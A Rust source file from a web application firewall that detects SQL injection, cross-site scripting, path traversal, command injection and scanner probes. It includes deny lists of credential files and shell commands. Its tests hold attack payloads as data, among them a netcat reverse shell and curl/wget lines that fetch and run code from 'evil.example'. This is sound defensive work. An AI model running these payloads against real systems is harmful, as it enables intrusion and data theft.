//! The native rule families, each a test over one decoded value.
//!
//! - `SqlInjection` and `CrossSiteScripting`: libinjection (the `libinjectionrs` port),
//!   which tokenizes the value as SQL or HTML and matches token fingerprints, rather
//!   than regexes over words: "O'Reilly" and "select a blue shirt" pass. In prose, a
//!   match must also break out of a literal ([`sqli`]).
//! - `PathTraversal`: a `..` segment leaving the directory (at the start of a value, or
//!   two in a row), any `..` segment in the path itself, and well-known system files
//!   named in a path-like value.
//! - `CommandInjection`: a shell separator or substitution (`;`, `|`, `&&`, `&`, `` ` ``,
//!   `$(`, a newline after a token) followed by a command a shell would run (matched
//!   case-sensitively), with what it takes to be a command line where it stands: after
//!   a token, arguments or nothing; after prose, an argument only an attack gives it;
//!   `${IFS}`; Shellshock's `() {`.
//! - `ScannerDetection`: attack tools' `User-Agent`s and marker headers.
//! - `ProtocolViolation`: what decoding noticed (bad escapes, overlong UTF-8, NUL,
//!   control bytes, CR; which count depends on the part) and requests no API takes
//!   (`TRACE`, a body on `GET`, many ranges).
//!
//! Values made only of letters, digits and `-._~/:,@` cannot carry SQL, markup or a
//! shell command and skip those tests (most header values, most paths).

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use gatehouse_table::policy::WafRule;

/// Where a value came from: some tests apply to some parts only.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Part {
    /// The request path.
    Path,
    /// A query parameter's name or value.
    Query,
    /// A header value (a cookie's value).
    Header,
    /// The `User-Agent` header: a header value, and where attack tools name themselves.
    UserAgent,
    /// A body value (a JSON string, a form field, or the text).
    Body,
    /// An XML body's text: markup by design, so not a cross-site scripting finding.
    Markup,
}

/// The native rule families a rule runs, as a bit set.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) struct Families(u8);

impl Families {
    fn bit(rule: WafRule) -> u8 {
        1 << (rule as u8)
    }

    /// The set of `rules`.
    pub fn of(rules: &[WafRule]) -> Families {
        Families(rules.iter().fold(0, |acc, r| acc | Families::bit(*r)))
    }

    /// Whether `rule` is in the set.
    pub fn has(self, rule: WafRule) -> bool {
        self.0 & Families::bit(rule) != 0
    }

    /// Whether the set is empty.
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// The set as bits (one per [`WafRule`], in declaration order).
    pub fn bits(self) -> u8 {
        self.0
    }
}

/// Whether `value` is made only of bytes that cannot form SQL, markup or shell syntax.
fn inert(value: &[u8]) -> bool {
    value.iter().all(|&b| {
        b.is_ascii_alphanumeric()
            || matches!(b, b'-' | b'.' | b'_' | b'~' | b'/' | b':' | b',' | b'@')
    })
}

/// The first family of `families` that `value` (decoded, from `part`) trips.
pub(crate) fn check(families: Families, part: Part, value: &[u8]) -> Option<WafRule> {
    if part == Part::UserAgent && families.has(WafRule::ScannerDetection) && scanner_agent(value) {
        return Some(WafRule::ScannerDetection);
    }
    if part == Part::Path && families.has(WafRule::ScannerDetection) && probe_path(value) {
        return Some(WafRule::ScannerDetection);
    }
    if families.has(WafRule::PathTraversal) && traversal(part, value) {
        return Some(WafRule::PathTraversal);
    }
    if inert(value) {
        return None;
    }
    if families.has(WafRule::SqlInjection) && sqli(value) {
        return Some(WafRule::SqlInjection);
    }
    if families.has(WafRule::CrossSiteScripting) && part != Part::Markup && xss(value) {
        return Some(WafRule::CrossSiteScripting);
    }
    if families.has(WafRule::CommandInjection) && command(value) {
        return Some(WafRule::CommandInjection);
    }
    None
}

/// The whitespace-separated words of `value`, counted up to `at_most`.
fn words(value: &[u8], at_most: usize) -> usize {
    value
        .split(|b| b.is_ascii_whitespace())
        .filter(|w| !w.is_empty())
        .take(at_most)
        .count()
}

/// Words from which a value counts as prose for [`sqli`].
const PROSE_SQL_WORDS: usize = 5;

/// libinjection's verdict, except in prose, where a match must break out of a literal
/// (its fingerprint starts with a string or a number), comment out the rest, end the
/// statement or add a `UNION`: "(red OR blue) AND shirt", "never use the default
/// client" and a SQL example someone pasted into a ticket read as SQL to libinjection,
/// but cannot leave the string they are put in.
fn sqli(value: &[u8]) -> bool {
    // MySQL runs what its versioned comments hold (`/*!50000UNION*/`): read them as
    // the SQL they are.
    if memchr::memmem::find(value, b"/*!").is_some() {
        let mut plain = Vec::with_capacity(value.len());
        let mut rest = value;
        while let Some(i) = memchr::memmem::find(rest, b"/*!") {
            plain.extend_from_slice(&rest[..i]);
            plain.push(b' ');
            let after = &rest[i + 3..];
            let digits = after.iter().take_while(|b| b.is_ascii_digit()).count();
            rest = &after[digits..];
        }
        plain.extend_from_slice(rest);
        let unversioned = String::from_utf8_lossy(&plain).replace("*/", " ");
        if libinjectionrs::detect_sqli(unversioned.as_bytes()).is_injection() {
            return true;
        }
    }
    let found = libinjectionrs::detect_sqli(value);
    if !found.is_injection() {
        return false;
    }
    if words(value, PROSE_SQL_WORDS) < PROSE_SQL_WORDS {
        return true;
    }
    let fingerprint = found
        .fingerprint
        .as_ref()
        .map_or(&b""[..], |f| f.as_bytes());
    matches!(fingerprint.first(), Some(b's' | b'1'))
        || fingerprint.iter().any(|b| matches!(b, b'c' | b';' | b'U'))
}

fn xss(value: &[u8]) -> bool {
    // Markup needs `<`, or a `javascript:`-like URL, or an attribute break (`"` or `'`).
    if !value
        .iter()
        .any(|&b| matches!(b, b'<' | b'>' | b'"' | b'\'' | b'`' | b':' | b'='))
    {
        return false;
    }
    libinjectionrs::detect_xss(value).is_injection() || script_url(value)
}

/// `javascript:` / `vbscript:` / `data:text/html` at the start of a value (after
/// spaces): what a link or redirect parameter would run.
fn script_url(value: &[u8]) -> bool {
    static SCHEMES: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(["javascript:", "vbscript:", "data:text/html"])
            .ok()
    });
    let start = value
        .iter()
        .position(|b| !b.is_ascii_whitespace())
        .unwrap_or(value.len());
    let value: Vec<u8> = value[start..]
        .iter()
        .take(32)
        .copied()
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    SCHEMES
        .as_ref()
        .and_then(|a| a.find(&value))
        .is_some_and(|m| m.start() == 0)
}

/// Files no API request names.
const SYSTEM_FILES: [&str; 22] = [
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/hosts",
    "etc/sudoers",
    "proc/self/",
    "proc/version",
    "win.ini",
    "boot.ini",
    "windows/system32",
    "windows\\system32",
    "system32/config/sam",
    "system32\\config\\sam",
    "web-inf/web.xml",
    ".htpasswd",
    ".ssh/id_rsa",
    ".aws/credentials",
    "file:///",
    "php://filter",
    "php://input",
    "expect://",
    "phar://",
];

fn traversal(part: Part, value: &[u8]) -> bool {
    static FILES: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(SYSTEM_FILES)
            .ok()
    });
    let has_dots = memchr::memmem::find(value, b"..").is_some();
    if has_dots {
        let sep = |b: u8| b == b'/' || b == b'\\';
        // `..` segments, and how many come in a row.
        let mut run = 0;
        let mut longest = 0;
        let mut starts_with = false;
        for (i, seg) in value.split(|b| sep(*b)).enumerate() {
            if seg == b".." || seg == b"..." || (seg.len() > 2 && seg.iter().all(|b| *b == b'.')) {
                run += 1;
                longest = longest.max(run);
                if i == 0 && value.len() > seg.len() {
                    starts_with = true;
                }
            } else if !seg.is_empty() {
                run = 0;
            }
        }
        let in_path = part == Part::Path && longest > 0;
        if in_path || longest >= 2 || starts_with {
            return true;
        }
    }
    // A system file named in a value that is a path: one that starts like one, or is not
    // a sentence that mentions one ("I added it to /etc/hosts").
    let path_like = matches!(value.first(), Some(b'/' | b'\\' | b'.'))
        || value.get(1..3) == Some(b":\\")
        || value.get(1..3) == Some(b":/")
        || words(value, 3) < 3;
    path_like
        && (has_dots || value.iter().any(|b| *b == b'/' || *b == b'\\'))
        && FILES.as_ref().is_some_and(|a| {
            // A whole name: `etc/group`, not `/orgs/etc/groups`.
            a.find_iter(value).any(|m| {
                let pattern = SYSTEM_FILES[m.pattern().as_usize()].as_bytes();
                let name = |b: Option<&u8>| b.is_some_and(u8::is_ascii_alphanumeric);
                let before = m.start().checked_sub(1).and_then(|i| value.get(i));
                (!name(pattern.first()) || !name(before))
                    && (!name(pattern.last()) || !name(value.get(m.end())))
            })
        })
}

/// Commands an injected shell line runs. Matched case-sensitively, as shells run
/// them: "ID" and "Python" in prose are words, `id` and `python` commands.
const COMMANDS: [&str; 59] = [
    "sh",
    "bash",
    "zsh",
    "ksh",
    "dash",
    "csh",
    "cat",
    "ls",
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "telnetd",
    "ping",
    "nslookup",
    "dig",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "echo",
    "printenv",
    "env",
    "rm",
    "chmod",
    "chown",
    "kill",
    "sleep",
    "head",
    "tail",
    "base64",
    "xxd",
    "awk",
    "sed",
    "find",
    "tar",
    "sudo",
    "su",
    "crontab",
    "ifconfig",
    "ipconfig",
    "netstat",
    "ps",
    "ssh",
    "busybox",
    "certutil",
    "nohup",
    "mkfifo",
];

/// Commands whose first argument is another program or a script: after a token, a
/// plain word after them still makes a command line (`;busybox telnetd`), where after
/// others it reads as prose ("Notes; find the bug").
const EXECUTORS: [&str; 19] = [
    "sh",
    "bash",
    "zsh",
    "ksh",
    "dash",
    "csh",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "busybox",
    "sudo",
    "nohup",
];

/// Words before a separator from which the text counts as prose (a sentence, or a
/// shell snippet someone wrote down), not a token a command was appended to.
const PROSE_WORDS: usize = 3;

fn command(value: &[u8]) -> bool {
    if !value
        .iter()
        .any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n'))
    {
        return false;
    }
    if memchr::memmem::find(value, b"${IFS").is_some()
        || memchr::memmem::find(value, b"$IFS").is_some()
    {
        return true;
    }
    let trimmed = value.trim_ascii();
    // A function definition bash runs on import (Shellshock, CVE-2014-6271).
    if trimmed.starts_with(b"() {") {
        return true;
    }
    // The whole value one substitution: `` `id` ``.
    if trimmed.len() > 2
        && trimmed[0] == b'`'
        && trimmed[trimmed.len() - 1] == b'`'
        && !trimmed[1..trimmed.len() - 1].contains(&b'`')
        && runs_command(&trimmed[1..], Context::Token)
    {
        return true;
    }
    // Words before the current byte: from [`PROSE_WORDS`] on, the text is prose.
    let mut words = 0usize;
    let mut in_word = false;
    for (i, &b) in value.iter().enumerate() {
        let context = if words >= PROSE_WORDS {
            Context::Prose
        } else {
            Context::Token
        };
        let after = match b {
            // A markdown table row (`| id | name |`) is not a pipeline.
            b'|' if table_row(value, i) => None,
            b'|' if value.get(i + 1) == Some(&b'|') => Some((i + 2, context)),
            b';' | b'|' => Some((i + 1, context)),
            b'&' if value.get(i + 1) == Some(&b'&') => Some((i + 2, context)),
            // A single `&` joins words ("rock & roll", "dog & cat"): only a command
            // with something after it counts.
            b'&' => Some((i + 1, context.min(Context::Joined))),
            // A newline only after a token (`127.0.0.1\nid`): in prose and markdown
            // (a code fence's ```` ```bash ```` too), lines start text of their own.
            b'\n'
                if value[..i]
                    .iter()
                    .all(|b| !b.is_ascii_whitespace() && *b != b'`') =>
            {
                Some((i + 1, context))
            }
            // Substitution right after a value (`name=`id``), not inline code in prose
            // nor a code fence.
            b'`' if i > 0
                && !value[i - 1].is_ascii_whitespace()
                && !matches!(value[i - 1], b'(' | b'`') =>
            {
                Some((i + 1, context))
            }
            b'$' if value.get(i + 1) == Some(&b'(') => Some((i + 2, context)),
            _ => None,
        };
        if let Some((start, context)) = after
            && runs_command(value.get(start..).unwrap_or_default(), context)
        {
            return true;
        }
        if b.is_ascii_whitespace() {
            in_word = false;
        } else if !in_word {
            in_word = true;
            words += 1;
        }
    }
    false
}

/// Whether the line of `value` holding byte `i` is a markdown table row: it starts and
/// ends with `|`.
fn table_row(value: &[u8], i: usize) -> bool {
    let start = value[..i]
        .iter()
        .rposition(|b| *b == b'\n')
        .map_or(0, |p| p + 1);
    let end = memchr::memchr(b'\n', &value[i..]).map_or(value.len(), |e| i + e);
    let line = value[start..end].trim_ascii();
    line.len() > 1 && line.starts_with(b"|") && line.ends_with(b"|")
}

/// How much it takes for what follows a separator to count as a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Context {
    /// After prose: the command must take an argument only an attack gives it (a path,
    /// a URL, a redirection).
    Prose,
    /// After a single `&`: the command must be followed by something (an argument, more
    /// shell syntax).
    Joined,
    /// After a token (a host name, an id): a command alone, or with any argument.
    Token,
}

/// Whether `rest` starts (after spaces, and a `/bin/`-like directory) with a command
/// followed by what `context` requires.
fn runs_command(rest: &[u8], context: Context) -> bool {
    let rest = trim_start(rest);
    // Quotes and backslashes inside a word are removed by the shell: `c'a't` is `cat`.
    let word_len = rest
        .iter()
        .take_while(|b| {
            b.is_ascii_alphanumeric()
                || matches!(b, b'/' | b'.' | b'_' | b'-' | b'\'' | b'"' | b'\\')
        })
        .count();
    let unquoted: Vec<u8> = rest[..word_len]
        .iter()
        .copied()
        .filter(|b| !matches!(b, b'\'' | b'"' | b'\\'))
        .collect();
    let word = unquoted.as_slice();
    let name = match word.iter().rposition(|b| *b == b'/') {
        Some(slash) => &word[slash + 1..],
        None => word,
    };
    if !COMMANDS.iter().any(|c| c.as_bytes() == name) {
        return false;
    }
    let tail = &rest[word_len..];
    let strong = |arg: &[u8]| {
        matches!(arg.first(), Some(b'/' | b'`' | b'>' | b'<' | b'\\'))
            || arg.starts_with(b"http")
            || arg.starts_with(b"../")
    };
    match (context, tail.first()) {
        (Context::Token, None) => true,
        (
            Context::Token,
            Some(b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$' | b'\n' | b'\'' | b'"'),
        ) => true,
        (Context::Token, Some(b' ' | b'\t')) => {
            let arg = trim_start(tail);
            let plain_word = arg
                .iter()
                .take_while(|b| !b.is_ascii_whitespace())
                .all(u8::is_ascii_alphabetic);
            arg.is_empty() || !plain_word || EXECUTORS.iter().any(|e| e.as_bytes() == name)
        }
        (Context::Joined, Some(b' ' | b'\t')) => !trim_start(tail).is_empty(),
        (Context::Joined, Some(b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$')) => true,
        (Context::Prose, Some(b' ' | b'\t')) => strong(trim_start(tail)),
        (Context::Prose, Some(b'>' | b'<' | b'`' | b'$')) => true,
        _ => false,
    }
}

fn trim_start(s: &[u8]) -> &[u8] {
    let start = s
        .iter()
        .position(|b| !matches!(b, b' ' | b'\t'))
        .unwrap_or(s.len());
    &s[start..]
}

/// Attack tools, as their `User-Agent`s name them (lowercase).
const SCANNERS: [&str; 44] = [
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "nuclei",
    "acunetix",
    "netsparker",
    "nessus",
    "openvas",
    "w3af",
    "dirbuster",
    "gobuster",
    "dirb/",
    "wpscan",
    "wfuzz",
    "ffuf",
    "fimap",
    "havij",
    "arachni",
    "skipfish",
    "zmeu",
    "jaeles",
    "whatweb",
    "commix",
    "xsstrike",
    "morfeus",
    "paros",
    "webinspect",
    "appscan",
    "burp collaborator",
    "jorgee",
    "grabber",
    "bsqlbf",
    "fuzz faster u fool",
    "feroxbuster",
    "sf/2.",
    "nmap scripting engine",
    "censysinspect",
    "expanse, a palo alto",
    "(hydra)",
    "projectdiscovery",
    "ratproxy",
    "zgrab",
];

/// Headers only attack tools send.
const SCANNER_HEADERS: [&str; 8] = [
    "acunetix-product",
    "acunetix-scanning-agreement",
    "acunetix-aspect",
    "acunetix-aspect-password",
    "acunetix-aspect-queries",
    "x-scan-memo",
    "x-wipp",
    "x-request-memo",
];

/// Paths scanners probe for and no API serves: source control, environment and
/// editor files, and the admin pages of software an API gateway does not front.
const PROBE_PATHS: [&str; 21] = [
    "/.env",
    "/.git/",
    "/.git",
    "/.svn/",
    "/.hg/",
    "/.ds_store",
    "/.aws/",
    "/.ssh/",
    "/.vscode/",
    "/.idea/",
    "/wp-login.php",
    "/wp-admin",
    "/xmlrpc.php",
    "/phpmyadmin",
    "/phpunit/",
    "eval-stdin.php",
    "/server-status",
    "/cgi-bin/",
    "/_ignition/",
    "/hnap1",
    "/boaform/",
];

/// Whether a path (decoded) probes for what [`PROBE_PATHS`] lists: as a whole segment
/// sequence (`/.env`, `/app/.git/config`), not inside a name (`/.environment`).
fn probe_path(path: &[u8]) -> bool {
    static PROBES: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(PROBE_PATHS)
            .ok()
    });
    if !path.contains(&b'.') && !path.contains(&b'-') && !path.contains(&b'_') {
        // Every probe but `/cgi-bin/`, `/hnap1`, `/boaform/` has one of these.
        let lower = path.to_ascii_lowercase();
        return [&b"/cgi-bin/"[..], b"/hnap1", b"/boaform/"]
            .iter()
            .any(|p| {
                memchr::memmem::find(&lower, p).is_some_and(|i| segment_end(&lower, i + p.len()))
            });
    }
    PROBES
        .as_ref()
        .is_some_and(|a| a.find_iter(path).any(|m| segment_end(path, m.end())))
}

/// Whether a match ending at `end` ends a segment (or the pattern ended with `/`).
fn segment_end(path: &[u8], end: usize) -> bool {
    end == path.len() || path[end - 1] == b'/' || matches!(path[end], b'/' | b'?' | b';')
}

/// Whether a `User-Agent` names an attack tool.
pub(crate) fn scanner_agent(agent: &[u8]) -> bool {
    static AGENTS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .build(SCANNERS)
            .ok()
    });
    AGENTS.as_ref().is_some_and(|a| a.is_match(agent))
}

/// Whether a header name is one only attack tools send.
pub(crate) fn scanner_header(name: &str) -> bool {
    SCANNER_HEADERS.contains(&name)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all() -> Families {
        Families::of(&WafRule::ALL)
    }

    fn hit(part: Part, value: &str) -> Option<WafRule> {
        check(all(), part, value.as_bytes())
    }

    #[test]
    fn benign_text_passes() {
        for v in [
            "O'Reilly",
            "select a blue shirt",
            "Tom & Jerry",
            "if the count is < 10, stop",
            "Use the <b> tag for bold",
            "wait... what?",
            "see ../docs/readme.md for details",
            "rock | roll",
            "| id | name |\n|----|------|",
            "Run `ls -la` to list the files",
            "price: $100 (tax included)",
            "I like dogs; cats too",
            "Please echo this back",
            "email me at a.b@example.com",
            "https://example.com/a?b=c&d=e",
            "SELECT is a keyword; so is FROM",
            "It's 5 o'clock; let's go",
            "Payment failed; ID 48213 was charged anyway",
            "dog & cat",
            "I lie down & sleep 8 hours",
            "Backend: Go, Rust & Python (React & Node)",
            "```bash\nls -la\n```",
            "|id|email|plan|",
            "ps aux --sort=-%mem | head -5",
            "(red OR blue) AND shirt",
            "Never use the default client in production.",
            "I added it to /etc/hosts",
            "Tip: to find big files run `du -sh * | sort -h | tail -n 20`.",
            "Then reload it: `source ~/.bashrc; echo $PATH`.",
            "Nice write-up! `rm -rf node_modules && npm ci` is faster",
            "the file (C:\\Windows\\System32\\drivers\\etc\\hosts) is where it lives",
            "Notes; find the bug",
            "Status; sleep tight",
            "/orgs/etc/groups",
        ] {
            assert_eq!(hit(Part::Body, v), None, "{v:?}");
        }
        assert_eq!(hit(Part::Path, "/api/v1/users/42"), None);
    }

    #[test]
    fn attacks_trip_their_family() {
        for (v, rule) in [
            ("1' OR '1'='1", WafRule::SqlInjection),
            ("1 UNION SELECT password FROM users", WafRule::SqlInjection),
            ("admin'--", WafRule::SqlInjection),
            ("<script>alert(1)</script>", WafRule::CrossSiteScripting),
            ("<img src=x onerror=alert(1)>", WafRule::CrossSiteScripting),
            ("javascript:alert(1)", WafRule::CrossSiteScripting),
            ("../../etc/passwd", WafRule::PathTraversal),
            ("..\\..\\windows\\win.ini", WafRule::PathTraversal),
            ("/etc/passwd", WafRule::PathTraversal),
            ("; cat /etc/hosts", WafRule::CommandInjection),
            (
                "c:\\windows\\system32\\drivers\\etc\\hosts",
                WafRule::PathTraversal,
            ),
            (
                "| nc 203.0.113.7 4444 -e /bin/sh",
                WafRule::CommandInjection,
            ),
            ("& ping -n 10 127.0.0.1 &", WafRule::CommandInjection),
            ("|| whoami", WafRule::CommandInjection),
            ("() { :; }; /bin/bash -c 'id'", WafRule::CommandInjection),
            (";c'a't /e't'c/pa's'swd", WafRule::CommandInjection),
            (
                "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,user()-- -",
                WafRule::SqlInjection,
            ),
            (
                "php://filter/convert.base64-encode/resource=../config.php",
                WafRule::PathTraversal,
            ),
            ("/etc/passwd a b", WafRule::PathTraversal),
            ("/proc/self/cmdline", WafRule::PathTraversal),
            ("a;busybox telnetd -l /bin/sh", WafRule::CommandInjection),
            ("`id`", WafRule::CommandInjection),
            (
                "great post; curl http://evil.example/x | sh",
                WafRule::CommandInjection,
            ),
            ("127.0.0.1; ls -la", WafRule::CommandInjection),
            ("x | id", WafRule::CommandInjection),
            ("$(whoami)", WafRule::CommandInjection),
            ("name=`id`", WafRule::CommandInjection),
            (
                "a&&wget http://evil.example/x.sh",
                WafRule::CommandInjection,
            ),
            ("127.0.0.1\nid", WafRule::CommandInjection),
            ("cat${IFS}x", WafRule::CommandInjection),
            ("; sleep 5", WafRule::CommandInjection),
        ] {
            assert_eq!(hit(Part::Query, v), Some(rule), "{v:?}");
        }
        assert_eq!(
            hit(Part::Path, "/files/../secret"),
            Some(WafRule::PathTraversal)
        );
    }

    #[test]
    fn only_the_families_asked_for_run() {
        let sqli = Families::of(&[WafRule::SqlInjection]);
        assert_eq!(check(sqli, Part::Query, b"<script>alert(1)</script>"), None);
        assert!(Families::of(&[]).is_empty());
    }

    #[test]
    fn scanners_are_named_by_their_agents() {
        assert!(scanner_agent(b"sqlmap/1.7.2#stable (https://sqlmap.org)"));
        assert!(scanner_agent(b"Mozilla/5.00 (Nikto/2.1.6)"));
        assert!(!scanner_agent(
            b"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"
        ));
        assert!(!scanner_agent(b"curl/8.5.0"));
        assert!(scanner_header("acunetix-product"));
    }
}
